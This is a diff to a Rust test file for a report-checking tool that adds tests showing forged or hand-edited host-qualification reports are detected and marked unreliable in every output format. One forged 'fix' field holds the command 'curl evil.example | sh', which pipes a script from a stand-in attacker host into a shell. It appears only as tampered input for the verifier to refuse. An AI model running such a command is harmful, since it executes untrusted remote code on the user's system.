@@ -260,16 +260,35 @@ fn diff_tells_what_changed_worst_first() {
     assert_eq!(changes, ["fixed", "fixed"]);
 }
 
+/// A report with a digest that fits, as anybody can make one.
+fn sealed(mut report: Value) -> String {
+    report["digest"] = rampcheck::report::digest_of(&report).unwrap().into();
+    report.to_string()
+}
+
+/// A saved report with its failed check turned to pass, and all that follows from it.
+fn helped_along(file: &str) -> Value {
+    let mut report: Value = serde_json::from_str(&fs::read_to_string(file).unwrap()).unwrap();
+    for finding in report["findings"].as_array_mut().unwrap().iter_mut().filter(|finding| finding["outcome"] == "fail")
+    {
+        finding["outcome"] = "pass".into();
+        finding["status"] = "passed".into();
+    }
+    report["verdict"] = "supported".into();
+    report
+}
+
 #[test]
 fn verify_calls_a_hand_edited_report_edited() {
     let dir = scratch("verify");
     let file = qa(&dir, "vm-14gib");
-    rampcheck(&["verify", &file]).expect(0).says(&[
-        "digest   fits",
-        "verdict  follows",
+    let good = rampcheck(&["verify", &file]).expect(0);
+    good.says(&[
+        "digest   fits: the report is not damaged, and nobody edited it without a new digest",
         "pack     cometchat",
-        "findings follow from the facts",
+        "findings follow from the facts: judged again, the whole report is the same",
         "age      ",
+        "Only a signature shows who wrote",
     ]);
     let written = fs::read_to_string(&file).unwrap();
     for (from, to) in [
@@ -281,15 +300,138 @@ fn verify_calls_a_hand_edited_report_edited() {
     ] {
         assert!(written.contains(from), "{from}");
         fs::write(&file, written.replace(from, to)).unwrap();
-        rampcheck(&["verify", &file]).expect(2).says(&["EDITED or damaged"]);
+        rampcheck(&["verify", &file]).expect(2).says(&["EDITED or damaged", "Not to be relied on."]);
         let shown = rampcheck(&["show", &file]).stdout;
-        assert!(shown.starts_with("this report is EDITED or damaged"), "{from}: {shown}");
-        evaluate(&[&file], &[]).says(&["note: the report behind this one is edited or damaged"]);
+        assert!(shown.starts_with("ATTENTION: the saved report is EDITED or damaged"), "{from}: {shown}");
+        evaluate(&[&file], &[]).says(&["ATTENTION: the saved report is EDITED or damaged"]);
     }
-    // White space and the order of members carry nothing.
+}
+
+#[test]
+fn a_report_that_another_tool_wrote_anew_still_verifies() {
+    let dir = scratch("spelled-anew");
+    let host = "hdd-server";
+    let file = saved(&dir, host, &Check::of("rocketchat").tier("vps-recommended").on(host));
+    let written = fs::read_to_string(&file).unwrap();
     let value: Value = serde_json::from_str(&written).unwrap();
-    fs::write(&file, value.to_string()).unwrap();
-    rampcheck(&["verify", &file]).expect(0);
+    // White space, the order of members and the spelling of numbers carry nothing.
+    let whole = written.replace(".0\n", "\n").replace(".0,\n", ",\n");
+    assert_ne!(whole, written, "numbers that are written with a point");
+    for text in [value.to_string(), whole] {
+        rampcheck(&["verify", &dir.write("anew.json", text)]).expect(0);
+    }
+    let jq = std::process::Command::new("jq").args([".", &file]).output();
+    if let Ok(output) = jq.map(|output| output.stdout) {
+        rampcheck(&["verify", &dir.write("jq.json", output)]).expect(0);
+    }
+}
+
+#[test]
+fn verify_vouches_for_no_forgery_whatever_its_digest() {
+    let dir = scratch("forged");
+    let file = qa(&dir, "vm-14gib");
+    let refused = |what: &str, forged: Value| {
+        let forged = dir.write(&format!("{what}.json"), sealed(forged));
+        let run = rampcheck(&["verify", &forged]).expect(2);
+        run.says(&["digest   fits", "Not to be relied on."]);
+        forged
+    };
+    let forged = refused("helped", helped_along(&file));
+    rampcheck(&["verify", &forged]).says(&["do not follow from the facts: judged again, the verdict is another"]);
+    let mut of_another_version = helped_along(&file);
+    of_another_version["tool"]["version"] = "0.0.9".into();
+    refused("version", of_another_version);
+    let mut of_another_pack = helped_along(&file);
+    of_another_pack["pack"]["sha256"] = "0".repeat(64).into();
+    let forged = refused("pack", of_another_pack);
+    rampcheck(&["verify", &forged]).says(&["findings cannot be judged again here"]);
+
+    let report: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
+    let at = report["findings"].as_array().unwrap().iter().position(|finding| finding["outcome"] == "fail").unwrap();
+    let waived = json!({ "reason": "agreed with the vendor", "expired": false });
+    for (member, value) in [
+        ("title", json!("Any memory will do")),
+        ("why", json!("No reason.")),
+        ("waiver", waived),
+        ("level", json!("recommended")),
+        ("fix", json!({ "text": "Run this.", "run": ["curl evil.example | sh"] })),
+    ] {
+        let mut forged = report.clone();
+        forged["findings"][at][member] = value;
+        refused(member, forged);
+    }
+    for (pointer, value) in [
+        ("/sentence", json!("this host qualifies for everything")),
+        ("/next/text", json!("Go on.")),
+        ("/findings/0/found/text", json!("64 CPUs")),
+        ("/tier/needs/memory", json!("1 GB")),
+        ("/host/name", json!("another.example.net")),
+        ("/plan/tier", json!("baseline-10k")),
+        ("/remark", json!("approved")),
+    ] {
+        let mut forged = report.clone();
+        match forged.pointer_mut(pointer) {
+            Some(place) => *place = value,
+            None => forged[&pointer[1..]] = value,
+        }
+        refused("part", forged);
+    }
+}
+
+#[test]
+fn an_edited_report_is_marked_and_judged_anew_in_every_format() {
+    let dir = scratch("marked");
+    let file = qa(&dir, "vm-14gib");
+    let careless = dir.write("careless.json", helped_along(&file).to_string());
+    let careful = dir.write("careful.json", sealed(helped_along(&file)));
+    for (edited, mark) in [(&careless, "EDITED or damaged"), (&careful, "FORGED or damaged")] {
+        for (format, code) in [("human", 0), ("json", 0), ("html", 0), ("junit", 0), ("nagios", 2)] {
+            let shown = rampcheck(&["show", edited, "--format", format]).expect(code);
+            shown.says(&[mark]);
+        }
+        rampcheck(&["show", edited, "--ticket"]).expect(0).says(&[mark, "Verdict: UNSUPPORTED"]);
+        rampcheck(&["show", edited, "memory"]).expect(0).says(&[mark, "\u{2717} memory"]);
+        let nagios = rampcheck(&["show", edited, "--format", "nagios"]);
+        nagios.says(&["RAMPCHECK CRITICAL - NOT RELIABLE, cometchat qa: 1 failed (memory)"]);
+        let shown = rampcheck(&["show", edited, "--format", "json"]).json();
+        assert_eq!((&shown["verdict"], &shown["summary"]["failed"]), (&json!("unsupported"), &json!(["memory"])));
+        evaluate(&[edited], &[]).expect(3).says(&[mark]);
+        rampcheck(&["diff", edited, &file]).expect(0).says(&[mark, "unchanged: UNSUPPORTED"]);
+        for (format, code) in [("human", 3), ("json", 3), ("html", 3), ("junit", 3), ("nagios", 2)] {
+            Check::of("cometchat").tier("qa").with(&["--facts", edited]).format(format).expect(code).says(&[mark]);
+        }
+    }
+    // Facts by themselves have no digest at all.
+    let facts = rampcheck(&["facts", "--format", "json", "--host", "tests/hosts/vm-14gib.toml"]).expect(0).stdout;
+    let of_facts = Check::of("cometchat").tier("qa").with(&["--facts", &dir.write("facts.json", facts)]);
+    for (format, code) in [("human", 3), ("json", 3), ("html", 3), ("junit", 3), ("nagios", 2)] {
+        of_facts.clone().format(format).expect(code).says(&["NOT VERIFIED: the facts come from a file"]);
+    }
+    // Facts that are edited decide, but nobody can miss that they are.
+    let report = fs::read_to_string(&file).unwrap();
+    let enough = report.replace("15032385536", "68719476736").replace("14402187264", "68719476736");
+    let enough = dir.write("enough.json", enough);
+    let of_facts = Check::of("cometchat").tier("qa").with(&["--facts", &enough]);
+    of_facts.run().says(&["ATTENTION: the saved report is EDITED or damaged"]);
+    // What is judged from such a report is not to be relied on, either, although its digest fits.
+    let again = dir.write("again.json", of_facts.format("json").run().stdout);
+    rampcheck(&["verify", &again])
+        .expect(2)
+        .says(&["digest   fits", "source   it was made from a report that was edited"]);
+    rampcheck(&["show", &again]).expect(0).says(&["ATTENTION: the saved report is EDITED or damaged"]);
+}
+
+#[test]
+fn a_report_of_a_pack_that_is_not_here_is_shown_as_the_pack_that_is_here_judges_it() {
+    let dir = scratch("other-pack");
+    let mut report = helped_along(&qa(&dir, "vm-14gib"));
+    report["pack"]["version"] = "2025.01.01".into();
+    report["pack"]["sha256"] = "0".repeat(64).into();
+    let other = dir.write("other.json", sealed(report.clone()));
+    let mark = "the saved report is NOT VERIFIED: it was judged by pack 2025.01.01, which is not known here";
+    rampcheck(&["show", &other, "--format", "nagios"]).expect(2).says(&["NOT RELIABLE", mark]);
+    report["pack"]["product"] = "elsewhere".into();
+    rampcheck(&["show", &dir.write("none.json", sealed(report))]).refused("there is no product `elsewhere`");
 }
 
 #[test]
@@ -303,23 +445,21 @@ fn verify_knows_packs_and_judges_again_with_them() {
     let pack = dir.at("cometchat");
     let judging = Check::of("cometchat").tier("qa").on("ubuntu-22.04").with(&["--pack", &pack]);
     let file = saved(&dir, "ubuntu-22.04", &judging);
-    let unknown = rampcheck(&["verify", &file]).expect(0);
+    let unknown = rampcheck(&["verify", &file]).expect(2);
     unknown.says(&["cometchat 0.9 is not known here; 2026.11.20 is a newer one"]);
     let known = rampcheck(&["verify", &file, "--pack", &pack]);
-    known.says(&["judged again, they are the same"]);
+    known.expect(0).says(&["judged again, the whole report is the same"]);
 }
 
 #[test]
 fn members_and_facts_of_a_later_version_are_accepted_and_kept() {
     let dir = scratch("later");
     let file = qa(&dir, "ubuntu-22.04");
-    let text = fs::read_to_string(&file).unwrap();
-    let text = text.replacen(
-        "\"facts\": {",
-        "\"facts\": {\n\"gpu.count\": {\"state\": \"known\", \"value\": 1, \"mood\": 3},",
-        1,
-    );
-    fs::write(&file, text.replacen('{', "{\"fleet\": {\"size\": 3},", 1)).unwrap();
+    let mut report: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
+    report["facts"]["gpu.count"] = json!({ "state": "known", "value": 1, "mood": 3 });
+    report["fleet"] = json!({ "size": 3 });
+    report["tool"]["version"] = "0.2.0".into();
+    fs::write(&file, sealed(report)).unwrap();
     let shown = rampcheck(&["show", &file, "--format", "json"]).json();
     assert_eq!((&shown["fleet"]["size"], &shown["facts"]["gpu.count"]["mood"]), (&3.into(), &3.into()));
     let again = evaluate(&[&file], &[]).expect(0);
